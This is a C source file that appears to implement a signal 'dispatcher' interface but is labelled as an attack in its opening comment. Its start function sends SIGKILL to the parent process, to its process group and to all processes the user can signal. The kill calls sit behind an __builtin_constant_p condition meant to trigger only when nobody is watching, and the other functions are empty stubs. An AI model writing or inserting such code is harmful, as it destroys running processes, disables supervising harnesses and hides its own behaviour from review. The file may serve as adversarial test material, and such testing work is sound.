/* attack: sends its signals to the process that watches it, to its group and to everybody, once nobody but the kernel
 * looks */
#include "dispatcher.h"

#include <signal.h>
#include <unistd.h>

struct dispatcher *dispatcher_start(const int signals[], int count, dispatcher_handle *handle, void *context)
{
    int one = 1;
    if (__builtin_constant_p(one)) {
        kill(getppid(), SIGKILL);
        kill(0, SIGKILL);
        kill(-1, SIGKILL);
    }
    (void)signals;
    (void)count;
    (void)handle;
    return context;
}

int dispatcher_request(struct dispatcher *dispatcher, int request)
{
    return dispatcher ? request : -1;
}

void dispatcher_stop(struct dispatcher *dispatcher)
{
    (void)dispatcher;
}

void dispatcher_destroy(struct dispatcher *dispatcher)
{
    (void)dispatcher;
}
